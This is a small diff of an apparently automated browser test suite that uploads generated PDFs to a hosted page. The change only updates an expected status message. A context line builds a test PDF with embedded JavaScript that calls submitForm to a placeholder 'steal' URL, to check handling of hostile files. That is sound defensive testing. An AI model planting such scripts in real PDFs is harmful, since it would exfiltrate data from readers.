@@ -203,7 +203,7 @@ describe('PDFs on the production hosted page', () => {
       const script = "app.alert('ran'); this.submitForm('https://example.invalid/steal');";
       const small = Buffer.from(makePdf(pages, { script }));
       await page.locator('input[type=file]').first().setInputFiles({ name: 'export.pdf', mimeType: 'application/pdf', buffer: small });
-      await page.getByText(/PDF ready: export\.pdf, .* Pages: 2\./).waitFor({ timeout: 60_000 });
+      await page.getByText(/PDF ready: export\.pdf, .* 2 pages\./).waitFor({ timeout: 60_000 });
       await page.getByRole('img', { name: 'First page of export.pdf' }).waitFor();
       // The same statement padded to the size of a scan: over this step's budget.
       const large = Buffer.from(makePdf(pages, { script, padding: 5_000_000 }));
